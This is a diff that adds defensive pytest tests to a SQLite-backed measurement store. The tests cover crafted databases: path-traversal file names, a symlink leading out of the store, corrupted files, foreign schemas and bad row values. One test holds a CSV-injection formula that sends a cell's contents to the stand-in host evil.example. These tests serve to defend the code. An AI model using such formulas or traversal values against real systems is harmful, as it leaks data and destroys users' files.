@@ -163,3 +163,153 @@ def test_unwritable_location_is_a_clear_error(tmp_path):
     blocker.write_text("x")
     with pytest.raises(StoreError, match="cannot open the history database"):
         Store(blocker / "objlen.sqlite3")
+
+
+# -- hostile databases (issue #12) -------------------------------------------------
+
+
+def _craft(path: Path, sql: str, *values: object) -> None:
+    """Change the database behind objlen's back, as a crafted file would be."""
+    with sqlite3.connect(path) as connection:
+        connection.execute(sql, values)
+    connection.close()
+
+
+def test_a_crafted_file_name_never_deletes_outside_the_store(tmp_path, measurement):
+    precious_dir = tmp_path / "a" / "somewhere"
+    precious_dir.mkdir(parents=True)
+    precious = precious_dir / "precious.txt"
+    precious.write_text("the user's own file")
+    precious_mask = precious_dir / "precious.png"
+    precious_mask.write_text("also the user's")
+    path = tmp_path / "a" / "b" / "db" / "objlen.sqlite3"  # images/ is a/b/db/images
+    store = Store(path)
+    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x", mask_png=b"m")
+    _craft(
+        path,
+        "UPDATE measurements SET image_file = ?, mask_sha256 = ? WHERE id = ?",
+        "../../../somewhere/precious.txt",
+        "../../../somewhere/precious",
+        row_id,
+    )
+    row = store.get(row_id)
+    with pytest.raises(StoreError, match="not a content hash"):
+        store.image_path(row)
+    with pytest.raises(StoreError, match="not a content hash"):
+        store.mask_path(row)
+
+    assert store.delete(row_id)
+
+    assert precious.read_text() == "the user's own file"
+    assert precious_mask.read_text() == "also the user's"
+    assert store.count() == 0
+
+
+def test_a_link_out_of_the_store_is_not_followed(tmp_path, measurement):
+    outside = tmp_path / "outside.jpg"
+    outside.write_bytes(b"secret")
+    store = Store(tmp_path / "db" / "objlen.sqlite3")
+    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x")
+    kept = store.image_path(store.get(row_id))
+    kept.unlink()
+    kept.symlink_to(outside)
+    with pytest.raises(StoreError, match="leads out of"):
+        store.image_path(store.get(row_id))
+    assert store.delete(row_id)
+    assert outside.read_bytes() == b"secret"
+
+
+def test_garbage_instead_of_a_database_is_a_store_error(tmp_path):
+    path = tmp_path / "objlen.sqlite3"
+    path.write_bytes(b"this is not SQLite at all\n" * 100)
+    with pytest.raises(StoreError, match=r"objlen\.sqlite3"):
+        Store(path)
+
+
+def test_a_damaged_database_is_a_store_error_on_every_read(tmp_path, measurement):
+    path = tmp_path / "objlen.sqlite3"
+    store = Store(path)
+    for n in range(200):
+        store.save(measurement, image_name=f"p{n}.jpg", image_bytes=str(n).encode(), note="x" * 200)
+    with sqlite3.connect(path) as connection:
+        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    connection.close()
+    data = bytearray(path.read_bytes())
+    page = 4096
+    for start in range(2 * page, len(data) - page, 3 * page):  # wreck pages, keep the header
+        data[start : start + page] = b"\xa5" * page
+    path.write_bytes(bytes(data))
+    with pytest.raises(StoreError, match="damaged"):
+        Store(path).list()
+
+
+def test_a_foreign_table_layout_is_a_store_error_not_an_sqlite_one(tmp_path):
+    path = tmp_path / "objlen.sqlite3"
+    with sqlite3.connect(path) as connection:
+        connection.execute("CREATE TABLE measurements (id INTEGER PRIMARY KEY, other TEXT)")
+        connection.execute("INSERT INTO measurements (other) VALUES ('x')")
+        connection.execute("PRAGMA user_version = 1")
+    connection.close()
+    with pytest.raises(StoreError, match="cannot be used"):
+        Store(path).list()  # refused on opening (a migration fails) or on reading
+
+
+def test_another_programs_database_is_refused_untouched(tmp_path):
+    path = tmp_path / "places.sqlite"
+    with sqlite3.connect(path) as connection:
+        connection.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
+    connection.close()
+    with pytest.raises(StoreError, match="another program"):
+        Store(path)
+    with sqlite3.connect(path) as connection:
+        tables = [name for (name,) in connection.execute("SELECT name FROM sqlite_master")]
+    connection.close()
+    assert tables == ["moz_places"]
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "words"),
+    [
+        ("created_at", "yesterday-ish", "not a date"),
+        ("width", "wide", "not a number"),
+        ("unit", "furlong", "unknown unit"),
+        ("image_name", b"\xff\xfe", "text column"),
+    ],
+)
+def test_a_damaged_row_is_a_store_error(tmp_path, measurement, column, value, words):
+    path = tmp_path / "objlen.sqlite3"
+    store = Store(path)
+    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x")
+    _craft(path, f"UPDATE measurements SET {column} = ? WHERE id = ?", value, row_id)
+    with pytest.raises(StoreError, match=words):
+        store.list()
+    with pytest.raises(StoreError, match=words):
+        store.get(row_id)
+
+
+def test_damaged_json_in_a_row_is_a_store_error(tmp_path, measurement):
+    path = tmp_path / "objlen.sqlite3"
+    store = Store(path)
+    row_id = store.save(measurement, image_name="x.jpg", image_bytes=b"x")
+    _craft(
+        path,
+        "UPDATE measurements SET result_json = ?, settings_json = ? WHERE id = ?",
+        "{not json",
+        "[" * 100_000,
+        row_id,
+    )
+    row = store.get(row_id)
+    with pytest.raises(StoreError, match="damaged"):
+        row.result  # noqa: B018 - the property reads the JSON
+    with pytest.raises(StoreError, match="damaged"):
+        row.settings  # noqa: B018
+
+
+def test_csv_export_neutralises_formulas(tmp_path, measurement):
+    store = Store(tmp_path / "objlen.sqlite3")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")-photo.jpg'
+    store.save(measurement, image_name=hostile, image_bytes=b"a", note="@SUM(1+1)")
+    [row] = list(csv.DictReader(io.StringIO(to_csv(store.list()))))
+    assert row["image_name"] == "'" + hostile
+    assert row["note"] == "'@SUM(1+1)"
+    assert float(row["width"]) == pytest.approx(100.0)  # numbers stay numbers
